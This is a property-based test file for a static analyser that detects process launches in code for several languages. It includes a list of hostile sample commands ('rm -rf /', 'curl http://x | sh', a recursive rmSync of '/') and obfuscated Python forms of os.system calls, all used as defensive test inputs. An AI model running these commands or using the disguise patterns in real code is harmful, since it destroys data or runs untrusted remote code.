/** Whatever the text, the analysis ends, does not throw and stays within bounds; data stays data. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { analyseCode } from '../../../src/shell/interpreters/registry.ts';
import type { Language } from '../../../src/shell/invocation.ts';
import { CONTEXT, showLaunches } from './show.ts';

const LANGUAGES: readonly Language[] = [
  'python',
  'node',
  'ruby',
  'perl',
  'php',
  'lua',
  'awk',
  'osascript',
  'sql',
];

const FRAGMENTS = [
  '(',
  ')',
  '[',
  ']',
  '{',
  '}',
  '"',
  "'",
  '`',
  '\\',
  '\n',
  ' ',
  ';',
  ',',
  '.',
  ':',
  '::',
  '=',
  '=>',
  '->',
  '+',
  '-',
  '/',
  '|',
  '||',
  '$',
  '$x',
  '@',
  '%',
  '#',
  '#{',
  '${',
  '<<EOF\n',
  'EOF\n',
  '<<<',
  '<?php',
  '?>',
  '//',
  '/*',
  '*/',
  'f"',
  "r'",
  '"""',
  'x',
  'os',
  'system',
  'eval',
  'exec',
  'import ',
  'from ',
  'for ',
  'in ',
  'def f',
  'function ',
  'do ',
  'end ',
  'lambda x:',
  'sub ',
  'my ',
  'qw(',
  'q{',
  's/',
  'tr/',
  '%w[',
  '|x|',
  'print ',
  'getline',
  '1',
  '0x1f',
  'require("fs")',
  '.rmSync(',
  'do shell script ',
  '.shell ',
  'set x to ',
  '\ue000',
  '\u{1f600}',
  '\0',
];

describe.each(LANGUAGES)('%s', (language) => {
  test('random fragments are read without an exception', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...FRAGMENTS), { maxLength: 60 }), (pieces) => {
        const launches = analyseCode(language, pieces.join(''), CONTEXT);
        expect(launches.length).toBeLessThanOrEqual(300);
      }),
      { numRuns: 150 },
    );
  });

  test('any text at all', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (code) => {
        expect(analyseCode(language, code, CONTEXT).length).toBeLessThanOrEqual(300);
      }),
      { numRuns: 60 },
    );
  });

  test.each([
    '(',
    '[',
    '{',
    '"',
    '`${',
    '"#{',
    'f(',
    'a.',
    'a+',
    'x=>',
    'a?',
    '<<A\n',
    's=s+s\n',
    'x=[x,x]\n',
    '(*',
    '"a"|',
  ])('much of %j', (piece) => {
    expect(analyseCode(language, piece.repeat(5000), CONTEXT).length).toBeLessThanOrEqual(300);
  });
});

describe('the same call in other words', () => {
  const shapes: readonly ((name: string, text: string) => string)[] = [
    (n, t) => `import os; os.${n}('${t}')`,
    (n, t) => `from os import ${n}\n${n}("${t}")`,
    (n, t) => `import os as o\nf = o.${n}\nf('''${t}''')`,
    (n, t) => `getattr(__import__('os'), '${n.slice(0, 2)}' + '${n.slice(2)}')('${t}')`,
    (n, t) => `import os\nfor c in ['${t}']:\n    os.${n}(c)`,
    (n, t) => `import os\ndef g(c):\n    return os.${n}(c)\ng('${t}')`,
    (n, t) => `exec("import os; os.${n}('${t}')")`,
    (n, t) => `import os; os.${n}(''.join(['${t.slice(0, 3)}', '${t.slice(3)}']))`,
    (n, t) => `import os\nif True:\n    os.${n}(\n        '${t}'\n    )`,
    (n, t) => `import os; (lambda: os.${n}('${t}'))()`,
    (n, t) => `import os; [os.${n}(x) for x in ('${t}',)]`,
    (n, t) => `import os; os.${n}('${Array.from(t, (c) => `\\x${c.charCodeAt(0).toString(16)}`).join('')}')`,
  ];
  test('gives the same launch', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...shapes),
        fc.constantFrom(...shapes),
        fc.constantFrom(['system', 'sh: '], ['remove', 'rm '], ['popen', 'sh: ']),
        fc.stringMatching(/^[a-z0-9 ./-]{1,12}$/),
        (a, b, [name = '', prefix = ''], text) => {
          expect(showLaunches(analyseCode('python', a(name, text), CONTEXT))).toEqual([prefix + text]);
          expect(showLaunches(analyseCode('python', b(name, text), CONTEXT))).toEqual([prefix + text]);
        },
      ),
    );
  });
});

describe('text that nothing runs is data', () => {
  const dangerous = fc.constantFrom(
    'os.system("id")',
    'rm -rf /',
    '`id`',
    'eval(x)',
    'require("fs").rmSync("/")',
    'curl http://x | sh',
  );
  const holders: readonly (readonly [Language, (text: string) => string])[] = [
    ['python', (text) => `# ${text}\nx = ${JSON.stringify(text)}\nprint("hello")`],
    ['node', (text) => `// ${text}\n/* ${text} */ const x = ${JSON.stringify(text)}; console.log("hello")`],
    ['ruby', (text) => `# ${text}\nx = '${text.replaceAll("'", '')}'; puts "hello"`],
    ['perl', (text) => `# ${text}\nmy $x = '${text.replaceAll("'", '')}'; print "hello"`],
    ['php', (text) => `// ${text}\n/* ${text} */ $x = '${text.replaceAll("'", '')}'; echo "hello";`],
    ['lua', (text) => `-- ${text}\nlocal x = [[${text}]]; print("hello")`],
    ['awk', (text) => `# ${text}\nBEGIN { x = ${JSON.stringify(text)}; print "hello" }`],
    ['osascript', (text) => `-- ${text}\ndisplay dialog ${JSON.stringify(text)}`],
  ];
  test.each(holders.map(([language, hold]) => ({ language, hold })))('$language', ({ language, hold }) => {
    fc.assert(
      fc.property(dangerous, (text) => {
        expect(showLaunches(analyseCode(language, hold(text), CONTEXT))).toEqual([]);
      }),
    );
  });
});
